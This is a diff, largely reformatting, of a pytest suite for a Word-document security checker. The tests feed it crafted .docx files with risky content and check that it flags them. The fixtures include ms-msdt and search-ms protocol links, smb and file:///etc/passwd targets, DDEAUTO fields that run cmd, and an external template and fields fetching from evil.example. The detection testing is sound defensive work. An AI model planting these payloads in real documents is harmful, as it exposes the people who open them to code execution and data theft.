@@ -54,8 +54,16 @@ def test_external_relationships_are_flagged(memo: Path, tmp_path: Path, kind: st
 
 @pytest.mark.parametrize(
     "target",
-    ["ms-msdt:/id PCWDiagnostic", "search-ms:query=x&crumb=location:\\\\evil\\share", "ms-word:ofe|u|http://x/a.docx",
-     "smb://evil/share", "file:///etc/passwd", "javascript:alert(1)", "../../etc/passwd", "vbscript:x"],
+    [
+        "ms-msdt:/id PCWDiagnostic",
+        "search-ms:query=x&crumb=location:\\\\evil\\share",
+        "ms-word:ofe|u|http://x/a.docx",
+        "smb://evil/share",
+        "file:///etc/passwd",
+        "javascript:alert(1)",
+        "../../etc/passwd",
+        "vbscript:x",
+    ],
 )
 def test_hyperlinks_other_than_http_https_mailto_are_flagged(memo: Path, tmp_path: Path, target: str) -> None:
     bad = craft(memo, tmp_path / "x.docx", {DOC_RELS: lambda rels: add_relationship(rels, "hyperlink", target)})
@@ -83,10 +91,18 @@ def test_attached_template_is_flagged(memo: Path, tmp_path: Path) -> None:
         template.set(f"{{{NS['r']}}}id", "rIdT")
         settings.insert(3, template)
 
-    bad = craft(memo, tmp_path / "x.docx", {"word/settings.xml": attach}, add={"word/_rels/settings.xml.rels": (
-        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        b'<Relationship Id="rIdT" TargetMode="External" Target="http://evil.example/t.dotm" Type='
-        b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>')})
+    bad = craft(
+        memo,
+        tmp_path / "x.docx",
+        {"word/settings.xml": attach},
+        add={
+            "word/_rels/settings.xml.rels": (
+                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                b'<Relationship Id="rIdT" TargetMode="External" Target="http://evil.example/t.dotm" Type='
+                b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+            )
+        },
+    )
     findings = security(bad)
     assert [f.location for f in findings] == ["word/_rels/settings.xml.rels", "word/settings.xml"]
     assert "external attachedTemplate relationship" in findings[0].message
@@ -114,6 +130,7 @@ def test_linked_ole_object_is_flagged_and_embedded_one_is_not(memo: Path, tmp_pa
             element = etree.SubElement(etree.SubElement(run, w("object")), f"{{{O_NS}}}OLEObject")
             element.set("Type", kind)
             element.set("ProgID", "Excel.Sheet.12")
+
         return edit
 
     findings = security(craft(memo, tmp_path / "link.docx", {"word/document.xml": ole("Link")}))
@@ -122,9 +139,15 @@ def test_linked_ole_object_is_flagged_and_embedded_one_is_not(memo: Path, tmp_pa
     assert security(craft(memo, tmp_path / "embed.docx", {"word/document.xml": ole("Embed")})) == []
 
 
-RISKY = ['INCLUDETEXT "\\\\\\\\server\\\\share\\\\a.docx"', 'INCLUDEPICTURE "http://evil.example/p.png" \\d',
-         'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Blad1"', 'DDE cmd "/c calc" x', 'DDEAUTO cmd "/c calc"',
-         'IMPORT "http://evil.example/i.wmf"', 'HYPERLINK "ms-msdt:/id PCWDiagnostic"']
+RISKY = [
+    'INCLUDETEXT "\\\\\\\\server\\\\share\\\\a.docx"',
+    'INCLUDEPICTURE "http://evil.example/p.png" \\d',
+    'LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Blad1"',
+    'DDE cmd "/c calc" x',
+    'DDEAUTO cmd "/c calc"',
+    'IMPORT "http://evil.example/i.wmf"',
+    'HYPERLINK "ms-msdt:/id PCWDiagnostic"',
+]
 
 
 @pytest.mark.parametrize("simple", [True, False], ids=["fldSimple", "complex"])
@@ -140,7 +163,8 @@ def test_risky_fields_are_flagged(memo: Path, tmp_path: Path, instruction: str, 
     findings = security(craft(memo, tmp_path / "x.docx", {"word/document.xml": field}))
     assert [f.location for f in findings] == ["word/document.xml"]
     keyword = instruction.split()[0]
-    assert (f"a {keyword} field" in findings[0].message) or (keyword == "HYPERLINK" and "ms-msdt:" in findings[0].message)
+    expected = "ms-msdt:" if keyword == "HYPERLINK" else f"a {keyword} field"
+    assert expected in findings[0].message
 
 
 def test_field_in_a_header_is_flagged(memo: Path, tmp_path: Path) -> None:
@@ -174,14 +198,20 @@ def test_page_fields_are_not_risky(memo: Path, tmp_path: Path) -> None:
 def override(part: str, content_type: str) -> Callable[[etree._Element], None]:
     def edit(types: etree._Element) -> None:
         etree.SubElement(types, f"{{{CT}}}Override", PartName=part, ContentType=content_type)
+
     return edit
 
 
 def test_macro_parts_are_flagged(memo: Path, tmp_path: Path) -> None:
-    bad = craft(memo, tmp_path / "x.docx",
-                {"[Content_Types].xml": override("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")},
-                add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0", "word/vbaData.xml": b"<wne:vbaSuppData "
-                     b'xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'})
+    bad = craft(
+        memo,
+        tmp_path / "x.docx",
+        {"[Content_Types].xml": override("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")},
+        add={
+            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
+            "word/vbaData.xml": b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
+        },
+    )
     locations = [f.location for f in security(bad)]
     assert locations == ["word/vbaData.xml", "word/vbaProject.bin", "[Content_Types].xml"]
 
@@ -201,4 +231,4 @@ def test_tjs_check_reports_risky_content_as_security(memo: Path, tmp_path: Path,
     bad = craft(memo, tmp_path / "x.docx", {DOC_RELS: lambda rels: add_relationship(rels, "hyperlink", "smb://x/y")})
     code, _, err = run_tjs(capsys, "check", str(bad))
     assert code == 1
-    assert f"{bad}: {DOC_RELS}: security: a hyperlink to \"smb://x/y\"" in err
+    assert f'{bad}: {DOC_RELS}: security: a hyperlink to "smb://x/y"' in err
